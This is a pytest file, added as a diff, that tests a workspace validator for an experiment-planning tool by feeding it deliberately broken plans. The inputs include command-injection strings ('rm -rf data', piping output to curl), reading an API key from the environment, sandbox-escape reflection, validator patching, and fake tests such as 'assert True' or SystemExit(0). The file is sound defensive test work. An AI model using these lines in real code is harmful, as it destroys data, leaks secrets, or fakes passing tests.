@@ -1,0 +1,365 @@
+"""Broken workspaces are refused, each by a code and in words that name the fault; good ones pass.
+
+The broken ones are made from one good workspace by changing a few characters. Whatever a check can see by reading is
+found without running anything, so most of them cost a few milliseconds.
+"""
+
+from __future__ import annotations
+
+import shutil
+from dataclasses import dataclass, replace
+from pathlib import Path
+
+import pytest
+
+from labwright.planning.checks import check_workspace
+from labwright.planning.checks.subject import Found
+from labwright.planning.digest_facts import current_digest
+from labwright.planning.scan import ProjectScan, scan_project
+from labwright.planning.scan.facts import ProtectedFile
+from labwright.workspace import PlanWorkspaceHandle
+from tests.support.plan_workspaces import Planned, planned
+
+IR, TASK_IR, PLAN = "ir/workflow.yaml", "ir/tasks/train.yaml", "plan/implementation_plan.md"
+WIRING, RECORDS = "src/experiment/workflow.py", "src/experiment/records.py"
+TRAIN, SUMMARISE, CHOOSE = (f"src/experiment/tasks/{name}.py" for name in ("train", "summarise", "choose_best"))
+COMPARE, TABLE = (f"src/experiment/tasks/{name}.py" for name in ("compare_with_baseline", "write_table"))
+TEST_CHOOSE, TEST_TABLE, TEST_TRAIN = (f"tests/test_{name}.py" for name in ("choose_best", "write_table", "train"))
+FIRST = "    usable ="  # the first line of a body
+HOSTILE_TEST = "    rows = [row(0.1, 1.0), row(0.2, 2.0)]"
+REMOVED = None
+Edit = tuple[str, str | None, str]  # file, what is replaced ("" appends, None removes the file), by what
+
+
+@dataclass(frozen=True)
+class Broken:
+    code: str
+    names: str  # what the message has to name
+    file: str
+    old: str | None
+    new: str = ""
+
+
+def body(code: str, names: str, statement: str) -> Broken:
+    return Broken(code, names, CHOOSE, FIRST, f"    {statement}\n{FIRST}")
+
+
+def module(code: str, names: str, statement: str) -> Broken:
+    return Broken(code, names, CHOOSE, "", f"\n{statement}\n")
+
+
+def test_body(code: str, names: str, statement: str) -> Broken:
+    return Broken(code, names, TEST_CHOOSE, HOSTILE_TEST, f"    {statement}\n{HOSTILE_TEST}")
+
+
+test_body.__test__ = False  # type: ignore[attr-defined]
+
+READ = [
+    # files
+    Broken("missing_file", "tests/test_summarise.py", "tests/test_summarise.py", REMOVED),
+    Broken("missing_file", "src/experiment/__init__.py", "src/experiment/__init__.py", REMOVED),
+    Broken("missing_file", CHOOSE, CHOOSE, REMOVED),
+    Broken("missing_file", WIRING, WIRING, REMOVED),
+    Broken("missing_file", "implementation_plan.md", PLAN, REMOVED),
+    Broken("does_not_compile", SUMMARISE, SUMMARISE, "", "def (:\n"),
+    Broken("does_not_compile", TEST_TRAIN, TEST_TRAIN, "", "assert (\n"),
+    Broken("does_not_compile", CHOOSE, CHOOSE, "", "return 1\n"),
+    Broken("does_not_compile", "larger", CHOOSE, "", "#" * (1 << 20)),
+    Broken("does_not_compile", TABLE, TABLE, "", "nonlocal x\n"),
+    Broken("stray_file", "src/labwright.py", "src/labwright.py", "", "x = 1\n"),
+    Broken("stray_file", "src/json/__init__.py", "src/json/__init__.py", "", "x = 1\n"),
+    Broken("stray_file", "fast.so", "src/experiment/fast.so", "", "x"),
+    Broken("stray_file", "conftest.py", "tests/conftest.py", "", "x = 1\n"),
+    Broken("stray_file", "my-task.py", "src/experiment/tasks/my-task.py", "", "x = 1\n"),
+    # the IR
+    Broken("bad_ir", "../choose", IR, "id: choose_best", "id: ../choose"),
+    Broken("bad_ir", "a/b", IR, "id: choose_best", "id: a/b"),
+    Broken("bad_ir", "choose-best", IR, "id: choose_best", "id: choose-best"),
+    Broken("bad_ir", "nobody.result", IR, "source: summarise.result", "source: nobody.result"),
+    Broken("bad_ir", "summarise.rows", IR, "source: summarise.result", "source: summarise.rows"),
+    Broken("bad_ir", "direction", IR, "direction: minimize", "direction: ''"),
+    Broken("bad_ir", TASK_IR, TASK_IR, REMOVED),
+    Broken("bad_ir", "twice", IR, "id: write_table", "id: summarise"),
+    Broken("bad_ir", "no YAML", IR, "", "\n  - : [\n"),
+    Broken("bad_ir", "values", IR, "    values:\n    - 1\n    - 3\n    - 5\n", "    values: []\n"),
+    Broken("bad_ir", "surprise", IR, "", "surprise: 1\n"),
+    Broken("bad_ir", "success_criteria", TASK_IR, "- every run ends and reports test_mse", ""),
+    Broken("type_mismatch", "list[float]", IR, "      type: Best\n", "      type: list[float]\n"),
+    Broken("type_mismatch", "runs", IR, "runs: list[ExperimentRun]", "runs: list[int]"),
+    Broken("unresolved_annotation", "Nothing", IR, "    result: Best\n", "    result: Nothing\n"),
+    Broken(
+        "cycle",
+        "choose_best",
+        IR,
+        "      source: summarise.result\n    direction",
+        "      source: choose_best.result\n    direction",
+    ),
+    Broken("orphan", "write_table", IR, "  table: write_table.result\n", ""),
+    Broken("two_writers", "out.txt", IR, "  artifacts: []", "  artifacts: [out.txt]"),
+    Broken("bad_artifact", "../x", IR, "    result: str\n  artifacts: []", "    result: str\n  artifacts: [../x]"),
+    Broken("over_budget", "2", IR, "max_runs: null", "max_runs: 2"),
+    Broken("bad_grid", "degree", IR, "    - 3\n", "    - 5\n"),
+    Broken("bad_baseline", "other", IR, "    degree: 5\n", "    other: 5\n"),
+    Broken("unused_parameter", "degree", TASK_IR, "DEGREE={degree}", "DEGREE=3"),
+    Broken("unused_parameter", "seed", TASK_IR, " SEED={seed}", ""),
+    Broken("missing_input", "data", TASK_IR, "SEED={seed}", "SEED={seed} LR={data}"),
+    Broken("bad_command", "{0}", TASK_IR, "SEED={seed}", "SEED={0}"),
+    # the plan
+    Broken("plan_ir_mismatch", "7", PLAN, "1, 3, 5", "1, 3, 7"),
+    Broken("plan_ir_mismatch", "7", PLAN, "**Runs**: 6", "**Runs**: 7"),
+    Broken("plan_ir_mismatch", "train_mse", PLAN, "**Primary**: test_mse", "**Primary**: train_mse"),
+    Broken("plan_format", "Measures", PLAN, "### Metrics", "### Measures"),
+    # the command
+    Broken("no_such_script", "fot.py", TASK_IR, "script: fit.py", "script: fot.py"),
+    Broken("no_such_script", "other.py", TASK_IR, "python3 fit.py", "python3 other.py"),
+    Broken("no_such_flag", "DEPTH", TASK_IR, "SEED={seed}", "SEED={seed} DEPTH=3"),
+    Broken("no_such_flag", "--fast", TASK_IR, "python3 fit.py", "python3 fit.py --fast"),
+    Broken("no_such_flag", "nohup", TASK_IR, "python3 fit.py", "nohup python3 fit.py"),
+    Broken("no_such_flag", "degrees", IR, "flag: degree", "flag: degrees"),
+    Broken("bad_value", "5.5", IR, "    - 5\n", "    - 5.5\n"),
+    Broken("bad_value", "many", IR, "    degree: 5\n", "    degree: many\n"),
+    Broken("more_than_a_script", "rm -rf", TASK_IR, "python3 fit.py\n", "python3 fit.py; rm -rf data\n"),
+    Broken("more_than_a_script", "curl", TASK_IR, "python3 fit.py\n", "python3 fit.py | curl -d @- x\n"),
+    Broken("metric_not_produced", "test_acc", IR, "name: test_mse", "name: test_acc"),
+    # what code must not do
+    module("forbidden_import", "subprocess", "import subprocess"),
+    module("forbidden_import", "threading", "from threading import Thread"),
+    module("forbidden_import", "socket", "import socket as s"),
+    module("forbidden_import", "importlib", "from importlib import import_module as load"),
+    module("forbidden_import", "atexit", "import atexit"),
+    module("forbidden_import", "ctypes", "import ctypes.util"),
+    module("forbidden_import", "everything from os", "from os import *"),
+    module("forbidden_import", "urllib.request", "from urllib import request"),
+    Broken("forbidden_import", "unittest.mock", TEST_CHOOSE, "", "from unittest import mock\n"),
+    body("forbidden_import", "multiprocessing", "import multiprocessing"),
+    module("forbidden_call", "sys.exit", "import sys\nsys.exit(0)"),
+    module("forbidden_call", "os._exit", "from os import _exit"),
+    module("forbidden_call", "os._exit", "from os import _exit as leave\nleave(0)"),
+    module("forbidden_call", "os.kill", "import os as o\no.kill(o.getppid(), 9)"),
+    module("forbidden_call", "os.fork", "import os\nos.fork()"),
+    module("forbidden_call", "os.environ", "import os\nKEY = os.environ['OPENAI_API_KEY']"),
+    module("forbidden_call", "sys.modules", "import sys\nsys.modules['labwright'] = None"),
+    module("forbidden_call", "sys.meta_path", "import sys\nsys.meta_path.insert(0, None)"),
+    body("forbidden_call", "__import__", "__import__('os')"),
+    body("forbidden_call", "eval", "run = eval"),
+    test_body("forbidden_call", "os._exit", "import os; os._exit(0)"),
+    test_body("forbidden_call", "sys._getframe", "import sys; sys._getframe(1)"),
+    body("reflection", "__subclasses__", "().__class__.__base__.__subclasses__()"),
+    body("reflection", "__globals__", "choose_best.body.__globals__"),
+    body("reflection", "not written there", "getattr(rows, 'po' + 'p')"),
+    body("reflection", "/proc/", "open('/proc/self/mem')"),
+    test_body("reflection", "__builtins__", "__builtins__"),
+    module(
+        "patches", "validate_contract", "from labwright.workflow import contract\ncontract.validate_contract = None"
+    ),
+    module("patches", "load.describe", "import labwright.workflow.load as load\nload.describe, x = 1, 2"),
+    module("patches", "setattr", "import labwright\nsetattr(labwright, 'x', 1)"),
+    test_body("patches", "summarise", "from experiment.tasks import summarise; summarise.row_of = None"),
+    body("starts_training", "fit", "import fit"),
+    body("starts_training", "model.fit", "model = rows\n    model.fit(rows)"),
+    body("starts_training", "fit.py", "script = 'fit.py'"),
+    body("missing_package", "no_such_package", "import no_such_package"),
+    Broken("missing_package", "no_such_package", TEST_CHOOSE, "", "import no_such_package\n"),
+    body("undefined_name", "nowhere", "nowhere()"),
+    Broken("undefined_name", "nowhere", TEST_CHOOSE, "rows = [", "rows = nowhere + ["),
+    # stubs
+    body("stub", "choose_best", "raise NotImplementedError"),
+    Broken("stub", "write_table", TABLE, "    if not rows:\n", '    return "a table"\n    if not rows:\n'),
+    Broken(
+        "stub",
+        "write_table",
+        TABLE,
+        "    if not rows:",
+        "    pass\n\n\ndef rest(rows, metric, direction):\n    if not rows:",
+    ),
+    # tests
+    Broken("no_tests", TEST_TRAIN, TEST_TRAIN, "def test_", "def check_"),
+    Broken("asserts_nothing", "test_the_best", TEST_TABLE, "    assert ", "    lines and "),
+    Broken("asserts_nothing", "planned_runs", TEST_TRAIN, "assert len(train.configurations()) == 6", "assert True"),
+    Broken(
+        "asserts_nothing", "planned_runs", TEST_TRAIN, "assert len(train.configurations()) == 6", "assert (train, 1)"
+    ),
+    Broken("asserts_nothing", "planned_runs", TEST_TRAIN, "assert len(train.configurations()) == 6", "assert 6 == 6"),
+    Broken(
+        "asserts_nothing",
+        "planned_runs",
+        TEST_TRAIN,
+        "assert len(train.configurations()) == 6",
+        "assert train == train",
+    ),
+    Broken("asserts_nothing", "planned_runs", TEST_TRAIN, "    assert len(", "    return\n    assert len("),
+    Broken(
+        "asserts_nothing",
+        "planned_runs",
+        TEST_TRAIN,
+        "    assert len(train.configurations())",
+        "    if False:\n        assert len(train.configurations())",
+    ),
+    Broken("unusable_test", "test_later", TEST_TRAIN, "", "\nasync def test_later():\n    assert train\n"),
+    Broken("unusable_test", "test_given", TEST_TRAIN, "", "\ndef test_given(tmp_path):\n    assert tmp_path\n"),
+    Broken(
+        "unusable_test",
+        "test_inside",
+        TEST_TRAIN,
+        "",
+        "\nclass TestIt:\n    def test_inside(self):\n        assert self\n",
+    ),
+    Broken(
+        "not_tested",
+        "choose_best",
+        TEST_CHOOSE,
+        "from experiment.tasks.choose_best import choose_best\n",
+        "def choose_best(rows, direction):\n    return rows[direction == 'maximize']\n",
+    ),
+]
+RUN = [
+    Broken("import_effect", "/tmp/x", CHOOSE, "", "open('/tmp/x', 'w').close()\n"),
+    Broken("import_failed", "no way", CHOOSE, "", "raise RuntimeError('no way')\n"),
+    Broken("no_symbol", "create_workflow", WIRING, "def create_workflow", "def make_workflow"),
+    Broken("not_a_workflow", "dict", WIRING, "return workflow", "return {}"),
+    Broken(
+        "empty",
+        "no steps",
+        WIRING,
+        'workflow = Workflow("degree_experiment")',
+        "workflow = Workflow('empty')\n    return workflow",
+    ),
+    Broken(
+        "code_ir_mismatch",
+        'Output("train", "runs")'.replace('"', "'"),
+        WIRING,
+        '"rows": Output("summarise", "result"), "best"',
+        '"rows": Output("train", "runs"), "best"',
+    ),
+    Broken("code_ir_mismatch", "[1, 3, 7]", TRAIN, "[1, 3, 5]", "[1, 3, 7]"),
+    Broken("code_ir_mismatch", "other.py", TRAIN, "python3 fit.py", "python3 other.py"),
+    Broken("code_ir_mismatch", "gpus=8", TRAIN, "gpus=0", "gpus=8"),
+    Broken("code_ir_mismatch", "mean: str", RECORDS, "mean: float", "mean: str"),
+    Broken("metric_without_direction", "test_mse", TRAIN, "'minimize'", "''"),
+    Broken("type_mismatch", "direction as list[float]", CHOOSE, "direction: str", "direction: list[float]"),
+    Broken("type_mismatch", "returns float", CHOOSE, "-> Best", "-> float"),
+    Broken("wrong_inputs", "more", CHOOSE, "direction: str)", "direction: str, more: int)"),
+    Broken("not_a_task", "@task", CHOOSE, "@task\n", ""),
+    Broken("not_a_task", "once", CHOOSE, "", "\nchoose_best = len\n"),
+    Broken(
+        "test_failed",
+        "test_the_direction_decides",
+        TEST_CHOOSE,
+        '"minimize")["params"] == {"lr": 0.1}',
+        '"minimize")["params"] == {"lr": 0.9}',
+    ),
+    Broken("test_failed", "test_the_direction_decides", CHOOSE, "pick = max if", "pick = min if"),
+    Broken("tests_no_answer", TEST_CHOOSE, TEST_CHOOSE, "", "raise SystemExit(0)\n"),
+]
+
+
+@pytest.fixture(scope="module")
+def good(tmp_path_factory: pytest.TempPathFactory) -> Planned:
+    plan = planned(tmp_path_factory.mktemp("good"), "bare-script", "degree 1, 3 and 5, 2 seeds, lowest test_mse")
+    assert plan.run()["validated"]
+    return plan
+
+
+@pytest.fixture(scope="module")
+def scan(good: Planned) -> ProjectScan:
+    return scan_project(good.project)
+
+
+def checked(good: Planned, scan: ProjectScan, folder: Path, edits: list[Edit]) -> list[Found]:
+    """A copy of the good workspace after these edits."""
+    target = folder / "plans" / good.folder.name
+    shutil.copytree(good.folder, target)
+    for path, old, new in edits:
+        file = target / path
+        if old is REMOVED:
+            file.unlink()
+            continue
+        text = file.read_text() if file.exists() else ""
+        assert old in text
+        file.parent.mkdir(exist_ok=True)
+        file.write_text(text.replace(old, new) if old else text + new)
+    handle = PlanWorkspaceHandle(target)
+    return check_workspace(handle, scan, current_digest(handle, scan))
+
+
+def named(broken: list[Broken]) -> list[str]:
+    return [f"{one.code}-{number}" for number, one in enumerate(broken)]
+
+
+@pytest.mark.parametrize("broken", [*READ, *RUN], ids=named([*READ, *RUN]))
+def test_what_is_broken_is_refused_in_words_that_name_it(
+    good: Planned, scan: ProjectScan, tmp_path: Path, broken: Broken
+) -> None:
+    found = checked(good, scan, tmp_path, [(broken.file, broken.old, broken.new)])
+    said = [f"{finding.place} {finding.message}" for finding in found if finding.code == broken.code]
+    assert any(broken.names in words for words in said), [finding.to_dict() for finding in found]
+    assert all(finding.message.strip() and finding.place for finding in found)
+
+
+@pytest.mark.parametrize(
+    "text", ["evaluate.py", "../evaluate.py", "data/test.csv", "/project/data/test.csv", "test.csv"]
+)
+def test_code_that_names_what_decides_a_result_is_refused(
+    good: Planned, scan: ProjectScan, tmp_path: Path, text: str
+) -> None:
+    files = (ProtectedFile(path="evaluate.py", reason="evaluates"), ProtectedFile(path="data/test.csv", reason="data"))
+    edit = (CHOOSE, FIRST, f"    path = {text!r}\n{FIRST}")
+    found = checked(good, replace(scan, evaluation_files=files), tmp_path, [edit])
+    assert [finding.code for finding in found] == ["touches_evaluation"] and text.rpartition("/")[2] in found[0].message
+
+
+def test_the_corpus_is_large_enough() -> None:
+    assert len(READ) + len(RUN) >= 60
+
+
+GOOD_GOALS = {
+    "one parameter and seeds": ("argparse-digits", "lr 0.01, 0.1 and 1 in train.py, 2 seeds, highest val_acc"),
+    "one run a configuration": ("bare-script", "degree 1 and 3, lowest test_mse"),
+    "one seed": ("bare-script", "degree 1 and 3, seed 7, lowest test_mse"),
+    "no room for a baseline": ("bare-script", "ridge 0.1 and 0.2, at most 2 runs, lowest test_mse"),
+    "a switch alone": ("typer-walk", "with and without double, highest mean_return"),
+    "choices alone": ("click-ngrams", "constant vs linear schedule, lowest val_ppl"),
+    "three parameters": ("bare-script", "degree 1 or 3, ridge 0 or 0.1, lr 0.1 or 0.2, lowest test_mse"),
+    "nested settings": ("yaml-config", "hidden 4 and 8, seeds 0 and 1, by accuracy"),
+    "the other metric": ("bare-script", "degree 1, 3 and 5, lowest train_mse"),
+}
+
+
+@pytest.mark.parametrize("name", GOOD_GOALS)
+def test_what_is_planned_from_a_clear_goal_passes(tmp_path: Path, name: str) -> None:
+    """Beside the six examples, which `test_planning` takes all the way."""
+    plan = planned(tmp_path, *GOOD_GOALS[name])
+    assert plan.run()["validated"], (plan.folder / "validation/report.md").read_text()
+
+
+MORE_TESTS = "from experiment.tasks.train import train\n\n\ndef test_seeds():\n    assert len(train.seeds) == 2\n"
+SUM_TEST = "\n\ndef test_a_total():\n    from experiment.sums import total\n\n    assert total([1, 2]) == 3\n"
+GOOD_EDITS: dict[str, list[Edit]] = {
+    "comments and docstrings": [
+        (WIRING, '"""The workflow of this plan."""', '"""Wired by hand."""\n# as it was'),
+        (TRAIN, "", "# fine\n"),
+    ],
+    "a repaired body": [(CHOOSE, "    pick = max if", "    # ties go to the first\n    pick = max if")],
+    "a time-out": [(CHOOSE, "@task\n", "@task(timeout=60.0)\n")],
+    "an async body": [
+        (TABLE, "def write_table", "async def write_table"),
+        (TEST_TABLE, 'write_table(rows, "m", "maximize").', 'asyncio.run(write_table(rows, "m", "maximize")).'),
+        (TEST_TABLE, "from experiment", "import asyncio\n\nfrom experiment"),
+    ],
+    "a module beside the tasks": [
+        ("src/experiment/sums.py", "", "def total(values):\n    return sum(values)\n"),
+        (CHOOSE, "from labwright", "from experiment.sums import total\nfrom labwright"),
+        (TEST_CHOOSE, "", SUM_TEST),
+    ],
+    "more tests": [("tests/test_more.py", "", MORE_TESTS)],
+    "another grid in plan, IR and code": [
+        (IR, "    - 3\n", "    - 4\n"),
+        (PLAN, "1, 3, 5", "1, 4, 5"),
+        (TRAIN, "[1, 3, 5]", "[1, 4, 5]"),
+    ],
+}
+
+
+@pytest.mark.parametrize("name", GOOD_EDITS)
+def test_what_a_reviewer_edits_well_passes(good: Planned, scan: ProjectScan, tmp_path: Path, name: str) -> None:
+    assert checked(good, scan, tmp_path, GOOD_EDITS[name]) == []
